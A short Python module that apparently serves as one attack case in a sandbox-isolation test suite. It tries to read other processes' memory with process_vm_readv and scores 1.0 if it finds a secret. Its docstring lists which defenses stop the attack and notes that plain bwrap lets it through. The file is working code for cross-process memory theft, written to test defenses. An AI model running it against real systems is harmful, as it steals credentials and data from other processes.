"""Reads the memory of every process it can see with process_vm_readv.

stopped_by: nobody else can be seen; the init is not dumpable; seccomp
plain bwrap: succeeds
"""

import ctypes

from tools import is_secret, others, syscall, writable_spans


class Part(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("size", ctypes.c_size_t))


def attack():
    size = 1 << 20
    buffer = ctypes.create_string_buffer(size)
    own = Part(ctypes.addressof(buffer), size)
    for pid in others():
        for low, high in writable_spans():  # forks have the same layout, so one's own will do for theirs
            for base in range(low, min(high, low + (64 << 20)), size):
                theirs = Part(base, min(size, high - base))
                got = syscall("process_vm_readv", pid, ctypes.byref(own), 1, ctypes.byref(theirs), 1, 0)
                if got > 0 and is_secret(buffer.raw[:got]):
                    return 1.0
    return 0.0
